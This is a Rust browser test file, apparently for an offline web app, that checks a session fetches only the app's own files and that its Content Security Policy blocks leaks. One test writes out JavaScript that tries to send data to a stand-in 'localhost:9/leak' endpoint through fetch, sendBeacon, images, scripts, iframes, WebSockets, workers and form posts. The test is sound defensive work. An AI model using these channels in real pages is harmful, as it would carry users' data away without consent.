//! The promise that nothing leaves the phone, held by the browser's own log of what it asked of the network.

use crate::browser::{Browser, Request};
use crate::dist::{dist, kept_paths};
use crate::server::Server;

/// Typed in the session; must be in no request in any spelling.
const TYPED: &str = "Zanzibar1234";

/// Fails on every request that is not a plain GET of a file of the app.
#[track_caller]
pub fn expect_only_own_files(requests: &[Request], server: &Server) {
    let mut allowed: Vec<String> = kept_paths(&dist()).iter().map(|path| server.address(path)).collect();
    allowed.push(server.address("sw.js"));
    assert!(requests.iter().any(|one| one.url == server.address("")), "the log holds not even the page: {requests:#?}");
    for request in requests {
        assert!(
            request.method == "GET" && allowed.contains(&request.url),
            "a request that is not the app's own file: {request:?}"
        );
        assert!(!request.url.contains(TYPED));
    }
}

#[tokio::test]
async fn a_whole_session_asks_for_the_apps_own_files_and_nothing_else() {
    let server = Server::of(&dist());
    let requests = Browser::new()
        .run(async |page| {
            page.open_app(server.address("")).await;
            page.type_into("#paste", TYPED).await;
            page.wait_for_offline().await;
            page.reload().await;
            page.wait_for_start().await;
            for route in ["#/add?paste", "#/type", "#/add?shared", "#/history", "#/settings", "#/"] {
                page.run(&format!("location.hash = '{route}'")).await;
            }
            page.run_async("const [done] = arguments; navigator.serviceWorker.ready.then((one) => one.update()).then(() => done())").await;
        })
        .await;
    expect_only_own_files(&requests, &server);
    assert!(!server.log().iter().any(|line| line.contains(TYPED)));
}

#[tokio::test]
async fn the_policy_stops_what_would_carry_text_away() {
    let server = Server::of(&dist());
    let requests = Browser::new()
        .run(async |page| {
            page.open_app(server.address("")).await;
            // Each way that a page has of sending something, tried from within the page.
            page.run(
                "const to = 'http://localhost:9/leak';
                 fetch(to).catch(() => {});
                 navigator.sendBeacon(to, 'x');
                 new Image().src = to;
                 const script = document.createElement('script');
                 script.src = to;
                 const style = document.createElement('link');
                 style.rel = 'stylesheet';
                 style.href = to;
                 const frame = document.createElement('iframe');
                 frame.src = to;
                 document.body.append(script, style, frame);
                 try { new WebSocket('ws://localhost:9/leak'); } catch {}
                 try { new Worker(to); } catch {}
                 const form = document.createElement('form');
                 form.method = 'post';
                 form.action = to;
                 document.body.append(form);
                 form.submit();",
            )
            .await;
            page.wait_until("the policy has spoken", "true").await;
            let refused = page.console().await.iter().filter(|line| line.contains("Content Security Policy")).count();
            assert!(refused >= 8, "only {refused} of the ways were refused");
            page.reload().await;
        })
        .await;
    let leaks: Vec<&Request> = requests.iter().filter(|one| one.url.contains("leak")).collect();
    assert!(leaks.is_empty(), "{leaks:#?}");
}
